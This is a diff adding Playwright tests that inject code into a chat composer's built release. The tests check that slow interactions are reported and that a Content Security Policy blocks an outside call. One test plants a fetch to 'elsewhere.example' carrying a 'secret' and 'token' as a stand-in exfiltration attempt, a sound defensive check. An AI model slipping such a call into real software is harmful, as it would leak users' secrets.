@@ -1,11 +1,12 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
-import type { Page } from '@playwright/test'
+import type { Page, Request } from '@playwright/test'
 import { buildRelease } from '../../build/build-release'
 import { root } from '../../build/packages'
 import { changeConfig } from '../../testing/browser/change-config'
 import { expect, test, testWithReleases } from '../../testing/browser/fixtures'
 import { codeFor, person, register, signIn } from '../../testing/browser/people'
+import type { ReleaseSite } from '../../testing/browser/release-site'
 import { composerOf, say } from '../../testing/browser/room'
 import { submitOf } from '../../testing/browser/screens/forms'
 import { stampRelease } from '../../testing/browser/stamp-release'
@@ -24,7 +25,7 @@ interface Report {
   commit?: string
   path: string
   error?: { name: string; message?: string; frames: ReportedFrame[] }
-  vital?: { name: string }
+  vital?: { name: string; rating: string; script?: object }
   running?: Record<string, string>
 }
 
@@ -136,6 +137,64 @@ testWithReleases(
     const source = readFileSync(join(root, 'remote-chat/composer/composer.tsx'), 'utf8')
     const line = source.split('\n').findIndex((text) => text.includes('scrollIntoView(')) + 1
     await expect(section.locator('pre')).toContainText(`remote-chat/composer/composer.tsx:${line}:`)
+  },
+)
+
+/** Runs a text in the composer when it is submitted, in a release that is live alone. */
+async function withInSubmit(site: ReleaseSite, text: string, folder: string) {
+  const replace = { '.preventDefault(),': `.preventDefault(),${text},` }
+  const built = await buildRelease('remote-chat')
+  const release = stampRelease(built, { stamp: 'submit', folder, replace })
+  await site.arrange({ 'remote-chat': [release, built] })
+  return release
+}
+
+const says = (text: string) => (request: Request) => Boolean(request.postData()?.includes(text))
+
+testWithReleases(
+  'a long task in the composer is reported for its screen and release, with the file',
+  async ({ page, site, ada }, info) => {
+    const busy = '(()=>{for(const end=performance.now()+300;performance.now()<end;);})()'
+    const { version } = await withInSubmit(site, busy, info.outputPath('slow'))
+    const reports: Report[] = []
+    page.on('request', (request) => {
+      const body = request.postData()
+      if (!body || !request.url().endsWith('/reports')) return
+      const sent: unknown = JSON.parse(body)
+      if (Array.isArray(sent)) reports.push(...sent)
+    })
+    const of = (path: string) =>
+      reports.find((report) => report.vital?.name === 'INP' && report.path === path)
+    const started = page.waitForRequest(says('"running"'))
+    await signIn(page, ada)
+    await say(page, 'a line')
+    await started
+    await hide(page)
+    await expect.poll(() => of('/dash')).toMatchObject({ remote: 'remote-chat', version })
+    expect(of('/login')).toMatchObject({ remote: 'remote-auth' })
+    const script = { remote: 'remote-chat', version, file: expect.stringMatching(/expose_dash/) }
+    expect(of('/dash')?.vital).toMatchObject({ rating: 'needs-improvement', script })
+
+    await page.goto('/_local/reports')
+    await expect(page.getByRole('region', { name: 'Screens' })).toContainText(
+      `remote-chat@${version} __federation_expose_dash.`,
+    )
+  },
+)
+
+testWithReleases(
+  'a call that the policy stops is reported under its remote, with the origin alone',
+  async ({ page, site, ada }, info) => {
+    const call = 'fetch("https://elsewhere.example/secret?token=1").catch(()=>0)'
+    const { version } = await withInSubmit(site, call, info.outputPath('call'))
+    await signIn(page, ada)
+    await say(page, 'a line')
+    const sent = page.waitForRequest(says('"blocked"'))
+    const body = (await sent).postData() ?? ''
+    const blocked = (JSON.parse(body) as Report[]).find(({ kind }) => kind === 'blocked')
+    const message = 'a call to https://elsewhere.example was stopped by the policy connect-src'
+    expect(blocked).toMatchObject({ remote: 'remote-chat', version, error: { message } })
+    expect(body).not.toMatch(/secret|token/)
   },
 )
 
